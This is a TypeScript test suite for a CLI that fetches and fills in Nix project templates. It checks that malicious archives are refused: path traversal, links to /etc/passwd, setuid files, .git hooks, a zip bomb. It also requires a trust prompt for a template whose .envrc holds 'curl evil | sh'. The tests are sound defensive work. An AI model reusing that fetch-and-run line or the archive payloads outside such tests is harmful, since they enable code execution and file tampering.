import { execFileSync } from 'node:child_process'
import { chmodSync, mkdirSync, readFileSync, statSync, symlinkSync, writeFileSync } from 'node:fs'
import path from 'node:path'
import { describe, expect, it } from 'vitest'
import { type Forge, openForge } from './support/forge.js'
import { contents, entries, run } from './support/program.js'
import { git, makeScene } from './support/scene.js'
import { pack, type TarEntry } from './support/tar.js'
import { KEYS, open } from './support/terminal.js'

const FILES = {
  'flake.nix': '{ description = "{{name}}"; }\n',
  start: '#!/bin/sh\necho {{slug}}\n',
  'README.md': '# {{name}} with Python {{python}}\n\nUse {{other}} and {{ github.ref }}.\n',
  'inner/flake.nix': '{ inner = true; }\n',
}

async function scene(): Promise<{ folder: string; env: Record<string, string>; forge: Forge }> {
  const { folder, env } = makeScene()
  const forge = await openForge(folder, env)
  return { folder, env: forge.env, forge }
}

const make = (folder: string, env: Record<string, string>, ...args: string[]) =>
  run(['lab', '-y', ...args], folder, env)
const record = (folder: string) => JSON.parse(readFileSync(path.join(folder, 'lab/.nix-jupyter.json'), 'utf8'))

describe('a template from elsewhere', () => {
  it('comes from GitHub, is filled in, and its commit is recorded', async () => {
    const { folder, env, forge } = await scene()
    const commit = forge.repository('ada/wine', FILES)
    const { code, stdout, stderr } = await make(folder, env, '-t', 'ada/wine')
    expect([code, stderr]).toEqual([0, ''])
    expect(stdout).toContain(`--template 'ada/wine#${commit}'`)
    expect(record(folder).template).toBe(`ada/wine#${commit}`)
    expect(contents(path.join(folder, 'lab'))).toMatchObject({
      'flake.nix': '{ description = "lab"; }\n',
      start: '#!/bin/sh\necho lab\n',
      'README.md': '# lab with Python 3.13\n\nUse {{other}} and {{ github.ref }}.\n',
    })
    expect(statSync(path.join(folder, 'lab/start')).mode & 0o777).toBe(0o755)
    expect(git(path.join(folder, 'lab'), 'status', '--porcelain')).toBe('')
  })

  it.each([
    ['gitlab:ada/wine', 'gitlab.com/ada/wine/-/archive/'],
    ['bitbucket:ada/wine', 'bitbucket.org/ada/wine/get/'],
    ['git.sr.ht/~ada/wine', 'git.sr.ht/~ada/wine/archive/'],
    ['https://github.com/ada/wine', 'github.com/ada/wine/archive/'],
  ])('comes from %s', async (address, asked) => {
    const { folder, env, forge } = await scene()
    forge.repository(address.includes('~') ? '~ada/wine' : 'ada/wine', FILES)
    expect(await make(folder, env, '-t', address)).toMatchObject({ code: 0 })
    expect(forge.requests[0]).toContain(asked)
  })

  it('comes from a folder and a branch, a tag or a commit of a repository', async () => {
    const { folder, env, forge } = await scene()
    const commit = forge.repository('ada/wine', FILES)
    const repository = path.join(path.dirname(folder), 'forge/ada/wine')
    git(repository, '-c', 'user.name=A', '-c', 'user.email=a@b', 'tag', '-a', 'v1', '-m', 'one')
    for (const [index, ref] of ['main', 'v1', commit].entries()) {
      const ran = await run([`lab${index}`, '-y', '-t', `ada/wine/inner#${ref}`], folder, env)
      expect(ran).toMatchObject({ code: 0 })
      expect(readFileSync(path.join(folder, `lab${index}/flake.nix`), 'utf8')).toBe('{ inner = true; }\n')
      expect(ran.stdout).toContain(commit)
    }
  })

  it('comes, when it is private, through git and its credentials', async () => {
    const { folder, env, forge } = await scene()
    const commit = forge.repository('ada/secret', FILES)
    forge.answer((_, response) => response.writeHead(404).end())
    expect(await make(folder, env, '-t', 'ada/secret/inner')).toMatchObject({ code: 0 })
    expect(record(folder).template).toBe(`ada/secret/inner#${commit}`)
    expect(entries(path.join(folder, 'lab'))).toEqual(['.git', '.nix-jupyter.json', 'flake.nix'])
  })

  it('comes from a folder on this machine', async () => {
    const { folder, env } = makeScene()
    mkdirSync(path.join(folder, 'mine'))
    writeFileSync(path.join(folder, 'mine/flake.nix'), '{ description = "{{name}}"; }\n')
    expect(await make(folder, env, '-t', './mine')).toMatchObject({ code: 0 })
    expect(readFileSync(path.join(folder, 'lab/flake.nix'), 'utf8')).toBe('{ description = "lab"; }\n')
  })

  it('--offline takes it from the cache; what is not there is exit 4', async () => {
    const { folder, env, forge } = await scene()
    forge.repository('ada/wine', FILES)
    expect(await make(folder, env, '-t', 'ada/wine', '--offline')).toMatchObject({
      code: 4,
      stderr: expect.stringContaining('not in the cache'),
    })
    expect(await run(['first', '-y', '-t', 'ada/wine'], folder, env)).toMatchObject({ code: 0 })
    forge.close()
    expect(await make(folder, env, '-t', 'ada/wine', '--offline')).toMatchObject({ code: 0 })
    expect(contents(path.join(folder, 'lab')).start).toBe('#!/bin/sh\necho lab\n')
  })

  it('escapes what it fills in', async () => {
    const { folder, env } = makeScene()
    const here = path.join(folder, "it's <b>")
    mkdirSync(here)
    mkdirSync(path.join(folder, 'mine'))
    writeFileSync(path.join(folder, 'mine/flake.nix'), '{ description = "{{name}}"; }\n')
    writeFileSync(path.join(folder, 'mine/README.md'), '{{name}}\n')
    expect(await run(['.', '-y', '-t', '../mine'], here, env)).toMatchObject({ code: 0 })
    expect(readFileSync(path.join(here, 'README.md'), 'utf8')).toBe("it's \\<b\\>\n")
    execFileSync('nix-instantiate', ['--parse', path.join(here, 'flake.nix')])
  })
})

describe('a hostile archive is refused as a whole: exit 1, nothing made, nothing in the cache', () => {
  const good: TarEntry = { path: 'wine-1/flake.nix', content: '{ }\n' }
  const hostile: [string, TarEntry[], string][] = [
    ['a path that leaves', [{ path: 'wine-1/../../evil', content: 'x' }], 'leaves the folder'],
    ['an absolute path', [{ path: '/tmp/evil', content: 'x' }], 'absolute path'],
    ['a symbolic link', [{ path: 'wine-1/link', type: '2', link: '/etc/passwd' }], 'a symbolic link'],
    ['a hard link', [{ path: 'wine-1/link', type: '1', link: '/etc/passwd' }], 'a hard link'],
    ['a device', [{ path: 'wine-1/null', type: '3' }], 'a device'],
    ['a pipe', [{ path: 'wine-1/pipe', type: '6' }], 'a pipe'],
    ['a set-uid bit', [{ path: 'wine-1/run', content: 'x', mode: 0o4755 }], 'rights of another user'],
    ['a set-gid bit', [{ path: 'wine-1/run', content: 'x', mode: 0o2755 }], 'rights of another user'],
    ['.git', [{ path: 'wine-1/.git/hooks/post-checkout', content: 'x', mode: 0o755 }], 'belongs to git'],
    ['.GIT', [{ path: 'wine-1/.GIT/config', content: 'x' }], 'belongs to git'],
    ['EJS', [{ path: 'wine-1/a.md.ejs', content: '<% process.exit() %>' }], 'EJS, which is code'],
    ['a control character', [{ path: 'wine-1/a\u001b[2J', content: 'x' }], 'control character'],
    [
      'a long name that leaves',
      [{ path: '././@LongLink', type: 'L', content: 'wine-1/../../evil\u0000' }, good],
      'leaves the folder',
    ],
    ['a bomb', [{ path: 'wine-1/zeros', content: '\u0000'.repeat(70 * 1024 * 1024) }], 'unpacks to more than 64 MB'],
  ]

  it.each(hostile)('%s', async (_, extra, reason) => {
    const { folder, env, forge } = await scene()
    forge.repository('ada/wine', FILES)
    const archive = pack([good, ...extra])
    forge.answer((_request, response) => response.end(archive))
    const ran = await make(folder, env, '-t', 'ada/wine')
    expect(ran).toMatchObject({ code: 1, stdout: '' })
    expect(ran.stderr).toContain(reason)
    expect(entries(folder)).toEqual([])
    if (reason !== 'EJS, which is code')
      expect(await make(folder, env, '-t', 'ada/wine', '--offline')).toMatchObject({ code: 4 })
  })

  it('a link outside the folder that is wanted is no danger, and no reason', async () => {
    const { folder, env, forge } = await scene()
    forge.repository('ada/wine', FILES)
    const archive = pack([
      { path: 'w/a', type: '2', link: 'b' },
      { path: 'w/inner/flake.nix', content: '{ }\n' },
    ])
    forge.answer((_, response) => response.end(archive))
    expect(await make(folder, env, '-t', 'ada/wine/inner')).toMatchObject({ code: 0 })
    expect(entries(path.join(folder, 'lab'))).toEqual(['.git', '.nix-jupyter.json', 'flake.nix'])
  })

  it('a link, .git, a set-uid bit in a folder on this machine', async () => {
    const { folder, env } = makeScene()
    const mine = path.join(folder, 'mine')
    const attempts: [string, () => void][] = [
      ['symbolic link', () => symlinkSync('/etc/passwd', path.join(mine, 'x'))],
      ['belongs to git', () => mkdirSync(path.join(mine, '.git'))],
      ['rights of another', () => chmodSync(path.join(mine, 'flake.nix'), 0o4755)],
    ]
    for (const [reason, prepare] of attempts) {
      execFileSync('rm', ['-rf', mine])
      mkdirSync(mine)
      writeFileSync(path.join(mine, 'flake.nix'), '{ }\n')
      prepare()
      expect(await make(folder, env, '-t', './mine')).toMatchObject({
        code: 1,
        stderr: expect.stringContaining(reason),
      })
      expect(entries(folder)).toEqual(['mine'])
    }
  })
})

describe('a download that fails', () => {
  it('half way: exit 4, and the next run is not misled by the half', async () => {
    const { folder, env, forge } = await scene()
    forge.repository('ada/wine', FILES)
    const archive = pack([{ path: 'w/flake.nix', content: '{ }\n'.repeat(9999) }])
    const noGit = { ...env, GIT_CONFIG_GLOBAL: env.HOME ? path.join(env.HOME, '.gitconfig') : '' }
    forge.answer((_, response) => {
      response.writeHead(200, { 'content-length': archive.length })
      response.write(archive.subarray(0, 60), () => response.destroy())
    })
    const ran = await make(folder, noGit, '-t', 'ada/wine')
    // The archive failed; git itself still works, and that is tried next.
    expect(ran.code).toBe(0)
    forge.answer((_, response) => response.end(archive.subarray(0, archive.length - 20)))
    expect(await run(['cut', '-y', '-t', 'ada/wine'], folder, env)).toMatchObject({
      code: 1,
      stderr: expect.stringContaining('cut off'),
    })
    expect(await run(['off', '-y', '-t', 'ada/wine', '--offline'], folder, env)).toMatchObject({ code: 4 })
    expect(entries(folder)).toEqual(['lab'])
  })

  it.each([
    ['nobody/nothing', 4, 'was not found'],
    ['ada/wine#nowhere', 4, 'was not found'],
    ['ada/wine/nowhere', 2, 'no such folder'],
    ['ada/empty', 1, 'it has no flake.nix'],
    ['svn:ada/wine', 2, 'there is no such choice'],
    ['ada/../wine', 2, 'there is no such choice'],
    ['./nowhere', 2, 'There is no folder'],
  ])('%s: exit %i', async (address, code, reason) => {
    const { folder, env, forge } = await scene()
    forge.repository('ada/wine', FILES)
    forge.repository('ada/empty', { 'README.md': 'x' })
    const ran = await make(folder, env, '-t', address)
    expect(ran).toMatchObject({ code, stdout: '' })
    expect(ran.stderr).toContain(reason)
    expect(entries(folder)).toEqual([])
  })

  it('Ctrl-C in the middle: exit 130, nothing made, nothing in the cache', async () => {
    const { folder, env, forge } = await scene()
    forge.repository('ada/wine', FILES)
    const asked = new Promise<void>((resolve) => {
      forge.answer((_, response) => {
        response.writeHead(200)
        response.write('x', () => resolve())
      })
    })
    const session = open(['lab', '-y', '-t', 'ada/wine'], folder, env)
    await asked
    session.type(KEYS.ctrlC)
    expect(await session.exited).toBe(130)
    expect(entries(folder)).toEqual([])
    expect(await make(folder, env, '-t', 'ada/wine', '--offline')).toMatchObject({ code: 4 })
  })
})

describe('a template that can run code by itself', () => {
  const risky = { ...FILES, '.envrc': 'curl evil | sh\n', 'flake.nix': '{ nixConfig.substituters = [ "x" ]; }\n' }

  it('needs --trust without a terminal', async () => {
    const { folder, env, forge } = await scene()
    forge.repository('ada/wine', risky)
    const ran = await make(folder, env, '-t', 'ada/wine')
    expect(ran).toMatchObject({ code: 2, stderr: expect.stringContaining('.envrc, flake.nix') })
    expect(entries(folder)).toEqual([])
    expect(await make(folder, env, '-t', 'ada/wine', '--trust')).toMatchObject({ code: 0 })
  })

  it.each([
    ['yes', 'y', 0],
    ['no', 'n', 130],
  ])('is shown and asked about in a terminal: %s', async (_, key, code) => {
    const { folder, env, forge } = await scene()
    forge.repository('ada/wine', risky)
    const session = open(['lab', '-t', 'ada/wine', '--python', '3.13', '--git'], folder, env)
    await session.see('curl evil | sh')
    await session.see('Use it?')
    session.type(key)
    expect(await session.exited).toBe(code)
    expect(entries(folder)).toEqual(code === 0 ? ['lab'] : [])
  })
})
